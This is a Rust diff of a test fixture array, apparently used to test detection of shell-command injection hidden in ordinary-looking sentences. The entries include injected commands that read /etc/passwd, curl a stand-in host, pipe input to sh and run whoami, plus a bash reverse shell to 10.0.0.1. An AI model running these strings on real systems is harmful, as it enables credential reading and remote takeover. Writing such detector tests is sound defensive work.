@@ -11,7 +11,7 @@ const DRESSED: [(&str, &str); 27] = [
     ("command/", "x; cat /etc/passwd is a command that people use"),
     ("command/", "x; curl can http://e.example/x and more"),
     ("command/", "x; curl or e.example that is all"),
-    ("command/", "x | sh is /tmp/x and more"),
+    ("command/", "x | sh is /srv/x and more"),
     ("command/", "y=$(whoami is a command that people use)"),
     ("command/", "x=`whoami` is a command that people use"),
     ("command/", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1 is a command that people use"),
